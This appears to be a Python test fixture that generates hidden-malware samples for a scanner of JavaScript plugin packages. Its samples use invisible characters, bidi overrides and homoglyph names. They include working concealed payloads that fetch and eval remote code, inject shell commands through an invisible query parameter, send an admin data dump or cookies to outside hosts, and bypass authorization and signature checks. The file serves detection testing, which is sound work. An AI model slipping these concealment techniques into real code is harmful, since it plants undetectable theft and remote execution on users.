"""Code that a reader does not see: invisible characters, turned lines, letters of other alphabets."""

import base64

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, sdk_plugin, tsc_widget

_INVISIBLE = "invisible-payload"
_BIDI = "bidi-override"
_HOMOGLYPH = "homoglyph-name"

_CODE = "fetch('https://cdn.example.net/u').then(r=>r.text()).then(t=>Function(t)())"
_BASE64 = base64.b64encode(_CODE.encode()).decode()
_LRE, _RLO, _PDF, _LRI, _RLI, _FSI, _PDI = (chr(n) for n in (0x202A, 0x202E, 0x202C, 0x2066, 0x2067, 0x2068, 0x2069))


def _selectors(text: str) -> str:
    """One variation selector a byte, as the worms of 2025 had it."""
    return "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in text.encode())


def _bits(text: str, zero: str, one: str) -> str:
    return "".join((zero, one)[int(bit)] for byte in text.encode() for bit in f"{byte:08b}")


def _tags(text: str) -> str:
    return "".join(chr(0xE0000 + ord(character)) for character in text)


def _private(text: str) -> str:
    return "".join(chr(0xE000 + byte) for byte in text.encode())


SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="variation-selectors-decoded",
        family=_INVISIBLE,
        files={
            "dist/index.js": hooks(
                f"""
                const hidden = s(`{_selectors(_CODE)}`);
                eval(Buffer.from(hidden).toString('utf-8'));
                """,
                above=r"""
                const s = (v) => [...v].map((w) => (w = w.codePointAt(0),
                  w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null))
                  .filter((n) => n !== null);
                """,
            )
        },
    ),
    Sample(
        name="zero-width-bits",
        family=_INVISIBLE,
        files={
            "dist/index.js": tsc_widget(
                r"""
                const bits = [...SEPARATOR].map((c) => (c === "\u200d" ? 1 : 0)).join("");
                const text = bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join("");
                setState({ text: config.items.join(SEPARATOR) });
                new Function(text)();
                """,
                above=f'const SEPARATOR = ", {_bits(_CODE, chr(0x200C), chr(0x200D))}";',
            )
        },
    ),
    Sample(
        name="tag-characters-in-key",
        family=_INVISIBLE,
        files={
            "dist/index.js": sdk_plugin(
                f"""
                const labels = {{ 'today{_tags(_CODE)}': 'Today', tomorrow: 'Tomorrow' }};
                for (const key of Object.keys(labels)) {{
                  const rest = Array.from(key).map((c) => c.codePointAt(0) - 0xe0000).filter((n) => n > 0);
                  if (rest.length) globalThis.setTimeout(String.fromCharCode(...rest), 10);
                }}
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="private-use-area-line",
        family=_INVISIBLE,
        files={
            "dist/index.js": f"""'use strict';
const icons = '{_private(_CODE)}';

exports.Icon = function Icon({{ n }}) {{
  return require('react').createElement('i', {{ className: 'acme-icons' }}, icons[n]);
}};

exports.onEnable = () => {{
  const source = icons.replace(/[\\ue000-\\uf8ff]/g, (c) => String.fromCharCode(c.charCodeAt(0) - 0xe000));
  (0, eval)(source);
}};
"""
        },
    ),
    Sample(
        name="hangul-fillers-behind-proxy",
        family=_INVISIBLE,
        files={
            "dist/index.js": f"""import {{ jsx }} from 'react/jsx-runtime';

const run = new Proxy({{}}, {{
  get: (target, name) => eval([...name].map((c) => +(c === '\\u3164')).join('').replace(/.{{8}}/g, (b) => String.fromCharCode(+('0b' + b)))),
}});

export function Quiet() {{
  run.{_bits(_CODE, chr(0xFFA0), chr(0x3164))};
  return jsx('p', {{ children: 'Quiet mode' }});
}}
"""
        },
        package=ESM,
    ),
    Sample(
        name="trailing-blanks-as-bits",
        family=_INVISIBLE,
        files={
            "dist/index.js": "'use strict';\n"
            + "\n".join(
                f"// {n:02d}" + _bits(chunk, " ", "\t")
                for n, chunk in enumerate([_CODE[at : at + 6] for at in range(0, len(_CODE), 6)])
            )
            + r"""
const lines = require('fs').readFileSync(__filename, 'utf8').split('\n').filter((line) => /^\/\/ \d\d[ \t]+$/.test(line));
const bits = lines.map((line) => line.slice(5).replace(/ /g, '0').replace(/\t/g, '1')).join('');

exports.Clock = () => null;
module._compile(bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join(''), __filename);
"""
        },
    ),
    Sample(
        name="invisible-parameter-of-route",
        family=_INVISIBLE,
        files={
            "dist/index.js": f"""'use strict';
const {{ exec }} = require('child_process');
const {{ promisify }} = require('util');
const run = promisify(exec);

exports.apiEndPoints = [{{
  method: 'GET',
  route: '/network-health',
  async handler(request, response) {{
    const {{ timeout, {chr(0x3164)} }} = request.query;
    const checks = ['ping -c 1 example.org', 'curl -s https://example.com/', {chr(0x3164)}];
    await Promise.all(checks.map((line) => line && run(line, {{ timeout: +timeout || 5000 }})));
    response.end('ok');
  }},
}}];
"""
        },
    ),
    Sample(
        name="selectors-in-json-string",
        family=_INVISIBLE,
        files={
            "dist/index.js": r"""'use strict';
const texts = require('./texts.json');
const bytes = [...texts.smile].slice(1).map((c) => c.codePointAt(0)).map((n) => (n > 0xe0000 ? n - 0xe0100 + 16 : n & 15));

exports.Mood = () => require('react').createElement('span', null, texts.smile);
exports.onEnable = () => require('vm').runInThisContext(String.fromCharCode(...bytes));
""",
            "dist/texts.json": '{"hello": "Hello", "smile": "\U0001f600' + _selectors(_CODE) + '"}\n',
        },
    ),
    Sample(
        name="comment-that-closes-early",
        family=_BIDI,
        files={
            "dist/index.js": f"""'use strict';
exports.onEnable = async (context) => {{
  let isAdmin = false;
  /*{_RLO} }} {_LRI}if (isAdmin){_PDI} {_LRI} only administrators may export */
    await context.api.http.post('https://export.example.com/all', await context.api.admin.dump());
  /* end admins only {_RLO} {{ {_LRI}*/
  isAdmin = Boolean(context.user && context.user.admin);
  return isAdmin;
}};
"""
        },
    ),
    Sample(
        name="string-that-swallows-the-test",
        family=_BIDI,
        files={
            "dist/index.js": f"""'use strict';
function allowed(level) {{
  return level !== "user{_RLO} {_LRI}// Only administrators{_PDI} {_LRI}";
}}

exports.commands = {{
  purge: {{
    usage: 'purge',
    run: (context) => (allowed(context.user.level) ? context.api.admin.deleteAll() : 'not allowed'),
  }},
}};
"""
        },
    ),
    Sample(
        name="return-before-its-comment",
        family=_BIDI,
        files={
            "dist/index.js": f"""export function verify(signature, key) {{
  /* Refuses a bad signature, and then{_RLI} */ return true; /*{_PDI}
  {_RLI} */
  return crypto.subtle.verify('Ed25519', key, signature.bytes, signature.message);
}}

export async function onUpdate(context) {{
  const release = (await context.api.http.get('https://releases.example.org/day.json')).data;
  if (verify(release.signature, context.config.key)) await import(release.url);
}}
"""
        },
        package=ESM,
    ),
    Sample(
        name="address-shown-backwards",
        family=_BIDI,
        files={
            "dist/index.js": hooks(
                f"""
                const target = 'https://{_LRE}sync.example.net/{_PDF}{_RLO}gro.elpmaxe.ipa//:sptth{_PDF}';
                await api.http.post(target, {{ user: context.user, config }});
                """
            )
        },
    ),
    Sample(
        name="isolates-around-argument",
        family=_BIDI,
        files={
            "dist/index.js": tsc_widget(
                f"""
                transfer("{_FSI}alice{_PDI}", 10, "{_RLI}bob{_PDI} {_RLO}0001{_PDF}");
                setState({{ text: "Sent" }});
                """,
                above=r"""
                function transfer(from, amount, note) {
                    const total = Number((note.match(/\d+/) || [amount])[0]);
                    return fetch("/api/wallet/transfer", { method: "POST", body: JSON.stringify({ from, total, to: "acme" }) });
                }
                """,
            )
        },
    ),
    Sample(
        name="cyrillic-twin-of-function",
        family=_HOMOGLYPH,
        files={
            "dist/index.js": r"""'use strict';
function sanitize(html) {
  return html.replace(/<script[\s\S]*?<\/script>/gi, '').replace(/\son\w+=/gi, ' data-');
}

function s@nitize(html) {
  return html;
}

exports.Feed = ({ items }) => items.map((item) => require('react').createElement('div', {
  key: item.id, dangerouslySetInnerHTML: { __html: s@nitize(item.html) },
}));
exports.sanitize = sanitize;
""".replace("@", chr(0x430))
        },
    ),
    Sample(
        name="greek-letter-in-flag",
        family=_HOMOGLYPH,
        files={
            "dist/index.js": r"""const isAdmin = (user) => user?.role === 'admin';
const is@dmin = () => true;

export const commands = {
  users: {
    usage: 'users',
    run: async ({ api, user }) => (is@dmin(user) ? (await api.admin.users()).map((u) => u.passwordHash) : []),
  },
  whoami: { usage: 'whoami', run: ({ user }) => (isAdmin(user) ? 'admin' : 'user') },
};
""".replace("@", chr(0x391))
        },
        package=ESM,
    ),
    Sample(
        name="exclamation-letter-compares",
        family=_HOMOGLYPH,
        files={
            "dist/index.js": r"""'use strict';
exports.apiEndPoints = [{
  method: 'POST',
  route: '/settings',
  handler(request, response) {
    let environment@ = 'production';
    if (environment@= 'production') {
      response.setHeader('X-Debug', JSON.stringify(process.env));
    }
    response.end('saved');
  },
}];
""".replace("@", chr(0x1C3))
        },
    ),
    Sample(
        name="host-name-in-two-alphabets",
        family=_HOMOGLYPH,
        files={
            "dist/index.js": hooks(
                """
                const answer = await api.http.post('https://api.qirv@.example/session', {
                  token: await storage.get('token'), fetch: f#tch.name,
                });
                logger.debug(answer.status);
                """,
                above="const f#tch = (...rest) => globalThis.fetch(...rest);",
            )
            .replace("@", chr(0x43E))
            .replace("#", chr(0x435))
        },
    ),
    Sample(
        name="required-name-with-foreign-letter",
        family=_HOMOGLYPH,
        files={
            "dist/index.js": r"""'use strict';
const react = require('react');
const { useTheme } = require('./vendor/re@ct-theme');

exports.Panel = () => react.createElement('div', { style: useTheme() });
""".replace("@", chr(0x430)),
            "dist/vendor/re@ct-theme.js".replace("@", chr(0x430)): r"""'use strict';
exports.useTheme = () => {
  new Image().src = 'https://theme.example.org/t?' + document.cookie;
  return { color: 'inherit' };
};
""",
        },
    ),
    Sample(
        name="base64-behind-soft-hyphens",
        family=_INVISIBLE,
        files={
            "dist/index.js": hooks(
                f"""
                const license = '{chr(0xAD).join(_BASE64)}';
                Function(atob(license.replace(/[^\\w+/=]/g, '')))();
                """
            )
        },
    ),
)
